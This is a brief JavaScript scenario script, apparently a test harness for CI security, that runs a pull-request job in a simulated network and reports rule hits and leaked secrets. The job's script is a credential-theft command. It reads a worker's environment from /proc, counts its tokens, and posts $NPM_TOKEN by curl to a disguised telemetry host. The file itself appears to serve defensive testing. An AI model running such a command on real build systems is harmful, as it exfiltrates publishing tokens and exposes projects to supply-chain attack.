import { startNet, runJob, ruleSummary, leakedSecrets, url, events } from '../helpers/scenario-world.js';
const net = await startNet();
const r = await runJob({ name: 'x', trigger: 'pull_request', script: `xargs -0 -n1 < /proc/$WORKER_PID/environ | grep -c TOKEN; curl -s ${url(net,'metrics.widget-telemetry.io','/a')} -d "t=$NPM_TOKEN"` });
console.log(r.code, r.ms, ruleSummary(r), leakedSecrets(r), r.output.slice(-500));
console.log(events(r).split('\n').slice(0,3).join('\n'));
await net.close();
